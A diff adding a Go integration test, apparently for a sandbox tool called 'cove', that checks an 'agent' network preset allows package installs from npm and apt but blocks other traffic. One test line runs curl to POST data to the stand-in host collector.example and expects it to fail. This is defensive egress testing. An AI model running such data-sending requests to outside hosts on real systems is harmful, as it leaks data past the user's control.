@@ -186,3 +186,23 @@ func inMemory(proc, text string) (found bool, size int64, err error) {
 	}
 	return false, size, nil
 }
+
+// TestAgentRegistries: under the preset agent, packages come from where this machine's
+// own clients get theirs, and from nowhere else.
+func TestAgentRegistries(t *testing.T) {
+	if os.Getenv("COVE_TEST_AGENTS") != "1" {
+		t.Skip("make test-agents runs it: it installs packages inside")
+	}
+	h := newHost(t)
+	h.serve(nil)
+	h.run("", "cove", "create", "paint", "--network", "agent")
+	h.run("", "cove", "exec", "-s", "paint", "--timeout", "3m", "sh", "-c", "mkdir x; cd x; npm init -y >log; npm install --no-audit is-number@7.0.0 >>log; test -e node_modules/is-number")
+	h.run("", "cove", "exec", "-s", "paint", "--timeout", "5m", "--user", "root", "sh", "-c",
+		"apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends sl >/dev/null && test -x /usr/games/sl")
+	if out, code := h.try("", "cove", "exec", "-s", "paint", "curl", "-sS", "-m", "10", "-d", "x", "http://collector.example/"); code == 0 {
+		t.Errorf("a POST to another host: %s", out)
+	}
+	if out := h.run("", "cove", "policy", "log", "-s", "paint"); !strings.Contains(out, "cove policy allow collector.example") {
+		t.Errorf("the log does not say what to do about it:\n%s", out)
+	}
+}
